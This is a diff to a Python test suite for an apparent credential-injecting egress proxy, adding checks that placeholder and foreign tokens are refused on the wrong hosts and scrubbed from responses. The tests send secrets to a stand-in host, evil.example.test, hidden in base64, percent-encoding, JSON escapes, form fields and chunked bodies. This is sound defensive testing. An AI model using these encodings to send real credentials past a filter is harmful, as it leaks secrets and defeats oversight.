@@ -8,6 +8,7 @@ import hashlib
 import json
 import os
 import random
+import re
 import socket
 import ssl
 import subprocess
@@ -57,6 +58,7 @@ egress:
     - {domain: expired.example.test, port: 443, http: [{allow: "* /**"}]}
     - {domain: wrong.example.test, port: 443, http: [{allow: "* /**"}]}
     - {domain: only.example.test, port: 443, http: [{allow: "* /**"}], credentials: only}
+    - {domain: onlybot.example.test, port: 443, http: [{allow: "* /**"}], credentials: only}
     - {domain: rule.example.test, port: 443, secret: other}
     - {domain: peek.example.test, port: 443}
 """
@@ -64,7 +66,7 @@ SECRET = (f"github 7 {PH}|api.example.test/v1 bearer|api.example.test/v1 basic|a
           "api.example.test/c cookie:sid|api.example.test/h header:x-api-key|api.example.test/body body|"
           "h2.example.test bearer|h2.example.test query:key|expired.example.test bearer|wrong.example.test bearer|"
           "only.example.test bearer|only.example.test basic|rule.example.test bearer|peek.example.test bearer")
-BOT_SECRET = f"bot 9 {BOT_PH}|bot.example.test path"
+BOT_SECRET = f"bot 9 {BOT_PH}|bot.example.test path|onlybot.example.test path|onlybot.example.test body"
 
 
 def run(*args, **kw):
@@ -139,6 +141,22 @@ def mirror(c, r):
                               ("Set-Cookie", f"a={base64.b64encode(raw).decode()}; Path=/")])
 
 
+def lines(text, width, end):
+    return end.join(text[i:i + width] for i in range(0, len(text), width))
+
+
+def in_lines(c, r):
+    """As mail has it, and as services put files into JSON: base64 in lines. And percent-encoded here and there."""
+    out = []
+    for t in (token_of(r), CONTROL):
+        for before in range(40, 58):
+            whole = base64.b64encode(b"." * before + t.encode() + b"..").decode()
+            out += [lines(whole, 76, "\r\n"), lines(whole, 60, "\n"), json.dumps({"content": lines(whole, 60, "\n")})]
+        out += [lines(base64.b64encode(t.encode()).decode(), 1, "\n")]
+        out += ["".join(f"%{ord(x):02X}" if random.random() < p else x for x in t) for p in (0.05, 0.3, 0.9)]
+    ht.reply(c, "\n|\n".join(out).encode())
+
+
 def trickle(c, r):
     """Chunk by chunk, a byte at a time, and in a trailer."""
     t = token_of(r)
@@ -204,7 +222,7 @@ def socket_echo(c, r):
     return False
 
 
-HANDLERS = {"/v1/mirror": mirror, "/v1/trickle": trickle, "/v1/events": events, "/v1/large": large, "/v1/gzip": packed,
+HANDLERS = {"/v1/lines": in_lines, "/v1/mirror": mirror, "/v1/trickle": trickle, "/v1/events": events, "/v1/large": large, "/v1/gzip": packed,
             "/v1/304": bare("304 Not Modified", ["ETag: x"]), "/v1/204": bare("204 No Content"), "/v1/once": once,
             "/body/x": body_back, "/v1/ws": socket_echo}
 
@@ -347,7 +365,14 @@ def refused(rig, api):
                        ("in any header", f"GET /s5 HTTP/1.1\nHost: evil.example.test\nX-Y: a{PH}b\n\n")):
         code, _, _ = evil.ask(text).answer()
         tap.eq(code, 403, f"also {what}")
-    tap.eq(len(rig.evil.requests), 1, "none of them reached the server")
+    encoded = [base64.b64encode(b"." * i + PH.encode() + b"..").decode() for i in range(3)]
+    for what, field in [(f"in base64, {i} behind", f"X-T: {x}") for i, x in enumerate(encoded)] + \
+            [("in base64 for URLs", f"X-T: {base64.urlsafe_b64encode(PH.encode()).decode()}"), ("percent-encoded", f"X-T: %67{PH[1:]}")]:
+        code, _, body = evil.ask(f"GET /s6 HTTP/1.1\nHost: evil.example.test\n{field}\n\n").answer()
+        tap.ok(code == 403 and b"'github'" in body, f"also {what}", body)
+    tap.eq(evil.ask(f"GET /s7 HTTP/1.1\nHost: evil.example.test\nX-T: {base64.b64encode(CONTROL.encode()).decode()}\n\n").answer()[0], 200,
+           "(but not what is nobody's)")
+    tap.eq(len(rig.evil.requests), 2, "none of them reached the server")
     for what, args in (("another path", (*bearer(), "https://api.example.test/v2/x")),
                        ("a path that only begins so", (*bearer(), "https://api.example.test/v10")),
                        ("another place", ("-H", f"X-Api-Key: {PH}", "https://api.example.test/v1/x")),
@@ -357,6 +382,10 @@ def refused(rig, api):
         code, _, body = split(curl(*args))
         tap.ok(code == 403, f"{what}: 403", body)
     tap.eq(len(rig.vault.requests), asked, "and for none of them the vault was asked")
+    rig.events("alert", kind="secret", name="api.example.test")
+    texts = [e["text"] for e in rig.lines() if e["ev"] == "alert" and e.get("name") == "api.example.test"]
+    tap.ok(any("without TLS" in x for x in texts) and any("x-api-key" in x for x in texts),
+           "two alerts for one host that say different things are two", texts)
     two = Client(rig, "api.example.test")
     two.ask(f"GET /v1/p1 HTTP/1.1\nHost: api.example.test\nAuthorization: Bearer {PH}\n\n"
             f"GET /v2/p2 HTTP/1.1\nHost: api.example.test\nAuthorization: Bearer {PH}\n\n"
@@ -364,6 +393,63 @@ def refused(rig, api):
     codes = [two.answer()[0] for _ in range(3)]
     tap.eq(codes, [200, 403, 421], "pipelined requests are decided one by one")
     tap.ok(token_of(api.last("/v1/p1")) == REAL and not api.last("/v2/p2"), "and only the first was rendered")
+
+
+def alerts(rig, host):
+    return [e["text"] for e in rig.lines() if e["ev"] == "alert" and e.get("name") == host]
+
+
+def refused_bodies(rig, api):
+    """A placeholder in a body: refused where nothing is bound, and before anything is sent where that can be known."""
+    form, js = f"a=1&t={PH}&b=2", json.dumps({"t": [PH], "c": CONTROL})
+    before = len(rig.evil.requests)
+    for version in ("--http1.1", "--http2"):
+        for what, args in (("a form", ("-d", form)), ("JSON", ("-H", "Content-Type: application/json", "-d", js)),
+                           ("in base64", ("-d", base64.b64encode(b"xy" + js.encode()).decode())),
+                           ("percent-encoded", ("-d", f"t=%67{PH[1:]}"))):
+            code, _, body = split(curl(version, *args, "https://evil.example.test/b"))
+            tap.ok(code == 403 and b"'github'" in body and b"api.example.test" in body, f"{what} to another host: 403 ({version})", body)
+    tap.eq(len(rig.evil.requests), before, "of all of these nothing was sent")
+    tap.ok(any("'github'" in x and "evil.example.test" in x for x in alerts(rig, "evil.example.test")), "an alert in the journal",
+           alerts(rig, "evil.example.test"))
+    evil = Client(rig, "evil.example.test")
+    head = f"POST /b2 HTTP/1.1\nHost: evil.example.test\nContent-Length: {len(form)}\n\n"
+    codes = [evil.ask(head + form).answer()[0], evil.ask("GET /after HTTP/1.1\nHost: evil.example.test\n\n").answer()[0]]
+    tap.eq(codes, [403, 200], "later requests of the connection are unharmed")
+    evil.s.close()
+    big = os.path.join(D, "upload")
+    with open(big, "wb") as f:
+        f.write(b"x" * 300000 + PH.encode() + b"y" * 300000)
+    control = os.path.join(D, "control")
+    with open(control, "wb") as f:
+        f.write(b"x" * 300000 + CONTROL.encode() + b"y" * 300000)
+    for version in ("--http1.1", "--http2"):
+        for what, args in (("a long one", ("-H", "Expect:", "--data-binary", f"@{big}")), ("of unknown length", ("-H", "Expect:", "-T", "-"))):
+            n = len(alerts(rig, "evil.example.test"))
+            r = curl(version, "-X", "POST", *args, "https://evil.example.test/long", stdin=big)
+            got = [q for q in rig.evil.requests if q.target == "/long"]
+            tap.ok(b"'github'" in r.stdout and b"\n403" in r.stdout and not any(PH.encode() in (q.body or b"") for q in got),
+                   f"{what}: broken off, and it is said why ({version})", r.stdout[-300:], r.stderr[-300:], n)
+            code, _, _ = split(curl(version, "-X", "POST", *[a.replace(big, control) for a in args], "https://evil.example.test/control",
+                                    stdin=control))
+            tap.ok(code == 200 and rig.evil.last("/control").body.count(CONTROL.encode()) == 1, f"(another of its length goes) ({version})")
+    piece = Client(rig, "evil.example.test")
+    piece.ask("POST /pieces HTTP/1.1\nHost: evil.example.test\nTransfer-Encoding: chunked\n\n")
+    for ch in f"t={PH}":
+        piece.s.sendall(f"1\r\n{ch}\r\n".encode())
+        time.sleep(0.001)
+    tap.eq(piece.answer()[0], 403, "a byte at a time")
+    piece.s.close()
+    tap.ok(not any(PH.encode() in (q.body or b"") for q in rig.evil.requests), "no server had a whole one")
+    n = len(alerts(rig, "api.example.test"))
+    for version in ("--http1.1", "--http2"):
+        code, _, _ = split(curl(version, "-d", form, "https://api.example.test/v1/quote"))
+        tap.ok(code == 200 and api.last("/v1/quote").body.decode() == form, f"where it is bound, an agent may quote it ({version})")
+    tap.eq(len(alerts(rig, "api.example.test")), n, "and nobody is alarmed")
+    for version in ("--http1.1", "--http2", "--http1.1"):
+        code, _, _ = split(curl(version, "-d", f"env={BOT_PH}", "https://api.example.test/v1/env"))
+        tap.ok(code == 200 and BOT_PH in api.last("/v1/env").body.decode(), f"also that of another secret, where one is bound ({version})")
+    tap.eq(len([x for x in alerts(rig, "api.example.test") if "'bot'" in x]), 1, "of which there is one alert")
 
 
 def second_paths(rig, api):
@@ -432,6 +518,9 @@ def unverified(rig):
         code, _, body = split(curl(*bearer(), f"https://{host}/x"))
         tap.ok(code == 502 and b"certificate" in body and len(rig.vault.requests) == asked,
                f"{host}: a server that is not verified gets nothing, and the vault is not asked", body)
+        lines_ = rig.lines()
+        tap.ok(any(e["ev"] == "request" and e.get("host") == host for e in lines_) and
+               not [e for e in lines_ if e["ev"] == "secret" and e.get("host") == host], f"{host}: which is no use of the secret")
 
 
 def only(rig):
@@ -444,6 +533,62 @@ def only(rig):
     tap.eq(ask(*bearer(), "-H", "X-Api-Key: mine"), 403, "nor one beside it")
     tap.eq(ask("-u", f"ghp_{word(36)}:{PH}"), 403, "nor one in front of it")
     tap.eq(ask(), 200, "(and requests without any)")
+    code, _, body = split(curl("-H", "X-Company-Token: mine", "https://only.example.test/x"))
+    tap.ok(code == 403 and b"the header x-company-token" in body.lower(), "the header is named as it was sent", body)
+
+
+THEIRS = "ghp_" + word(36)
+THEIR_BOT = "123456789:AA" + word(33)
+
+
+def only_elsewhere(rig):
+    """Somebody else's credential in places that have no name for one."""
+    js = ("-H", "Content-Type: application/json")
+    parts = f'--b\r\nContent-Disposition: form-data; name="api_key"\r\n\r\n%s\r\n--b--\r\n'
+    multi = ("-H", "Content-Type: multipart/form-data; boundary=b")
+    cases = (
+        ("a header's value", ("-H", f"X-Foo: {THEIRS}"), "/x", 403), ("a query's value", (), f"/x?q={THEIRS}", 403),
+        ("encoded", (), f"/x?q=%67hp_{THEIRS[4:]}", 403), ("the path", (), f"/x/{THEIRS}", 403),
+        ("a form's value", ("-d", f"q={THEIRS}"), "/x", 403), ("a form's name for one", ("-d", "a=1&token=whatever"), "/x", 403),
+        ("the same in brackets", ("-d", "user[password]=whatever"), "/x", 403),
+        ("JSON's name for one", (*js, "-d", '{"a":{"access_token":"whatever"}}'), "/x", 403),
+        ("otherwise written", (*js, "-d", '[{"clientSecret":"whatever"}]'), "/x", 403),
+        ("JSON's value", (*js, "-d", json.dumps({"q": [THEIRS]})), "/x", 403),
+        ("escaped", (*js, "-d", '{"q":"\\u0067hp_%s"}' % THEIRS[4:]), "/x", 403),
+        ("a name twice", (*js, "-d", '{"token":"whatever","token":"%s"}' % PH), "/x", 403),
+        ("JSON that is not said to be", ("-d", '{"api_key":"whatever"}'), "/x", 403),
+        ("lines of JSON", ("-H", "Content-Type: application/x-ndjson", "-d", '{"a":1}\n{"password":"whatever"}'), "/x", 403),
+        ("a part's name for one", (*multi, "-d", parts % "whatever"), "/x", 403),
+        ("text", ("-H", "Content-Type: text/plain", "-d", f"look: {THEIRS}"), "/x", 403),
+        ("a compressed body", ("-H", "Content-Encoding: gzip", "-d", "x"), "/x", 403),
+        ("(a form without any)", ("-d", "q=word&b=100%25"), "/x", 200),
+        ("(JSON without any)", (*js, "-d", '{"max_tokens":5,"password":null,"token":"","schema":{"password":{"type":"string"}}}'), "/x", 200),
+        ("(text without any)", ("-H", "Content-Type: text/plain", "-d", "password: 100% mine"), "/x", 200),
+        ("(ours in a form)", ("-d", f"token={PH}"), "/x", 200), ("(ours in JSON)", (*js, "-d", json.dumps({"token": PH, "q": PH})), "/x", 200),
+        ("(ours in a part)", (*multi, "-d", parts % PH), "/x", 200))
+    for version in ("--http1.1", "--http2"):
+        for what, args, path, want in cases:
+            before = len(rig.only.requests)
+            code, _, body = split(curl(version, *args, f"https://only.example.test{path}"))
+            tap.ok(code == want and len(rig.only.requests) - before == (want == 200) and (want == 200 or b"credentials" in body),
+                   f"credentials: only: {what}: {want} ({version})", body)
+        for path, want in ((f"/bot{THEIR_BOT}/getMe", 403), (f"/bot{urllib.parse.quote(THEIR_BOT, safe='')}/getMe", 403),
+                           ("/botsomething-else/getMe", 403), (f"/bot{BOT_PH}/getMe", 200), (f"/file/bot{BOT_PH}/a/b", 200), ("/", 200)):
+            code, _, body = split(curl(version, f"https://onlybot.example.test{path}"))
+            tap.ok(code == want, f"credentials: only: {path[:12]}, where a secret stands in paths: {want} ({version})", body)
+        code, _, _ = split(curl(version, *js, "-d", json.dumps({"token": BOT_PH}), f"https://onlybot.example.test/bot{BOT_PH}/set"))
+        tap.ok(code == 200 and json.loads(rig.only.requests[-1].body) == {"token": BOT}, f"(ours in path and body, rendered) ({version})")
+    too_long = "credentials: only: a body over 1 MiB is not looked into, so it is not sent"
+    code, _, body = Client(rig, "only.example.test").ask("POST /big HTTP/1.1\nHost: only.example.test\nContent-Length: 1048577\n\n").answer()
+    tap.ok(code == 413 and b"1 MiB" in body and not rig.only.last("/big"), f"{too_long}: its length is said", body)
+    c = Client(rig, "only.example.test").ask("POST /big HTTP/1.1\nHost: only.example.test\nTransfer-Encoding: chunked\n\n")
+    for _ in range(16):
+        c.s.sendall(b"10000\r\n" + b"x" * 65536 + b"\r\n")
+    code, _, body = c.answer()
+    tap.ok(code == 413 and b"1 MiB" in body and not rig.only.last("/big"), f"{too_long}: its length is not said", body)
+    big = os.path.join(D, "big")
+    r = curl("--http2", "-X", "POST", "-T", "-", "https://only.example.test/big", stdin=big)
+    tap.ok(b"\n413" in r.stdout and b"1 MiB" in r.stdout and not rig.only.last("/big"), f"{too_long}: HTTP/2", r.stdout[-300:])
 
 
 def clean(data, what, expect=CONTROL):
@@ -465,6 +610,12 @@ def scrubbed(rig, api):
         r = curl(version, *bearer(), "https://api.example.test/v1/large")
         clean(r.stdout, f"300 times in half a megabyte ({version})", None)
         tap.ok(split(r)[2] == api.large.replace(REAL.encode(), PH.encode()), f"and not another byte is changed ({version})")
+        r = curl(version, *bearer(), "https://api.example.test/v1/lines")
+        joined = re.sub(rb"\\r|\\n|[\r\n]", b"", r.stdout)
+        clean(joined, f"base64 in lines ({version})", None)
+        clean(urllib.parse.unquote_to_bytes(r.stdout), f"percent-encoded in part ({version})")
+        tap.ok(joined.count(base64.b64encode(CONTROL[:39].encode())) >= 18 and len(r.stdout.split(b"\n|\n")) == 116,
+               f"what is not the secret comes in lines as it was ({version})", joined[-300:])
         for path in ("/v1/304", "/v1/204"):
             r = curl(version, "-i", *bearer(), f"https://api.example.test{path}")
             tap.ok(path[-3:].encode() in r.stdout and PH.encode() in r.stdout, f"{path} ({version})", r.stdout)
@@ -610,7 +761,7 @@ def main():
     clear = ht.Origin(None, {})
     evil = ht.Origin(CA.cert("evil", "evil.example.test", "rule.example.test"))
     bot = ht.Origin(CA.cert("bot", "bot.example.test"))
-    own = ht.Origin(CA.cert("only", "only.example.test"))
+    own = ht.Origin(CA.cert("only", "only.example.test", "onlybot.example.test"))
     peek = ht.Origin(CA.cert("peek", "peek.example.test"))
     expired = ht.Origin(CA.cert("expired", "expired.example.test", days=-1))
     wrong = ht.Origin(CA.cert("wrong", "another.example.test"))
@@ -620,7 +771,7 @@ def main():
         with open(TRUST, "w", encoding="ascii") as f:
             f.write(rig.ca)
         rig.evil, rig.bot, rig.only = evil, bot, own
-        for host, server in (("api", api), ("evil", evil), ("bot", bot), ("only", own), ("expired", expired), ("wrong", wrong),
+        for host, server in (("api", api), ("evil", evil), ("bot", bot), ("only", own), ("onlybot", own), ("expired", expired), ("wrong", wrong),
                              ("h2", node), ("rule", evil), ("peek", peek)):
             rig.dial[f"{host}.example.test"] = server.addr
         rig.dial[("api.example.test", 80)] = clear.addr
@@ -628,10 +779,12 @@ def main():
         bodies(api)
         many_bodies(rig, api)
         refused(rig, api)
+        refused_bodies(rig, api)
         second_paths(rig, api)
         new_policy(rig, api)
         unverified(rig)
         only(rig)
+        only_elsewhere(rig)
         scrubbed(rig, api)
         streaming(rig, api)
         trailers(rig)
